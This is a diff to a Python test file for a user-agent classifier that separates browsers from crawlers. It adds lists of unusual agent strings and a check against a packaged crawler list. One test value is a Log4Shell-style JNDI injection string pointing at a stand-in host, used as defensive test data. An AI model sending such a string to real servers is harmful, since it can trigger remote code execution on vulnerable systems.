@@ -65,3 +65,58 @@ def test_machines_are_told_with_the_reason(agent, reason):
 
 def test_a_hostile_agent_is_judged_in_no_time():
     assert read_agent(("Mozilla/5.0 (" + "((" * 400)[:AGENT_LIMIT]).reason in {"", "crawler"}
+
+
+WINDOWS = f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {WEBKIT}"
+ANDROID = "Mozilla/5.0 (Linux; Android"
+MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)"
+LINUX = "Mozilla/5.0 (X11; Linux x86_64)"
+
+TAKEN_FOR_MACHINES_ONCE = (
+    f"{ANDROID} 13; Spider 8) {WEBKIT} Chrome/124.0 Safari/537.36",
+    f"{ANDROID} 7.0; M bot 51) {WEBKIT} Chrome/81.0 Mobile Safari/537.36",
+    f"{IPHONE} Version/26.6 Mobile/15E148 Snapchat/14.25.0.48 (like Safari/8624.5.1.10.3, panda)",
+    f"{IPHONE} Mobile/15E148 Viber/25.1.0",
+    f"{ANDROID} 10; TLA001; wv) {WEBKIT} Version/4.0 Chrome/80.0 Safari/537.36 SogouMSE,SogouMobile",
+    f"{ANDROID} 8.0.0; SM-G950N; wv) {WEBKIT} Version/4.0 Chrome/71.0 Safari/537.36;KAKAOTALK 1908210",
+    f"{IPHONE} Version/26.6 Mobile/15E148 Safari/604.1 Brave",
+    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/4.0; .NET CLR 2.0.50727)",
+    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; WOW64; Trident/6.0)",
+    "Mozilla/5.0 (CrKey armv7l 1.4.15250) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/31.0 Safari/537.36",
+    "Opera/9.80 (J2ME/MIDP; Opera Mini/9.80/37.6334; U; en) Presto/2.12.423 Version/12.16",
+    f"{IPHONE} Mobile/15E148 musical_ly_25.1.1 JsSdk/2.0 NetType/WIFI Channel/App Store ByteLocale/en",
+    f"{IPHONE} Mobile/15E148 [LinkedInApp]/9.29.8962",
+)
+
+TAKEN_FOR_PEOPLE_ONCE = (
+    "Mozilla/5.0 (compatible; Detectify)",
+    "Mozilla/5.0 Keydrop",
+    "Mozilla/5.0 (Mixnode) AppleWebKit/537.36 (KHTML, like Gecko)",
+    f"{LINUX} AppleWebKit/537.36 (KHTML, like Gecko; Google Search Console) Chrome/41.0 Safari/537.36",
+    f"{LINUX} {WEBKIT} Chrome/27.0.1453 Safari/537.36 (compatible; Google-HotelAdsVerifier/2.0)",
+    f"{WINDOWS} Chrome/132.0.0.0 Safari/537.36 SecurityHeaders",
+    f"{LINUX} {WEBKIT} Chrome/49.0.2623.75 Safari/537.36 Google Favicon",
+    f"{MAC} {WEBKIT} Chrome/109.0.0.0 Safari/537.36 CloudflareObservatory/1.0",
+    "${jndi:ldap://x.useragent.example}",
+    "Hello, world",
+    "Brandwatch/1.0 (varies)",
+    "keycdn-tools/perf",
+)
+
+
+@pytest.mark.parametrize("agent", TAKEN_FOR_MACHINES_ONCE)
+def test_a_person_with_an_unusual_agent_is_a_person(agent):
+    assert read_agent(agent).reason == ""
+
+
+@pytest.mark.parametrize("agent", TAKEN_FOR_PEOPLE_ONCE)
+def test_a_machine_without_a_telling_name_is_a_machine(agent):
+    assert read_agent(agent).reason
+
+
+def test_every_example_of_the_packaged_list_is_a_machine():
+    import crawleruseragents
+
+    examples = {text for entry in crawleruseragents.CRAWLER_USER_AGENTS_DATA for text in entry["instances"]}
+    people = [text for text in examples if not read_agent(text[:AGENT_LIMIT]).reason]
+    assert len(people) < len(examples) / 200, people
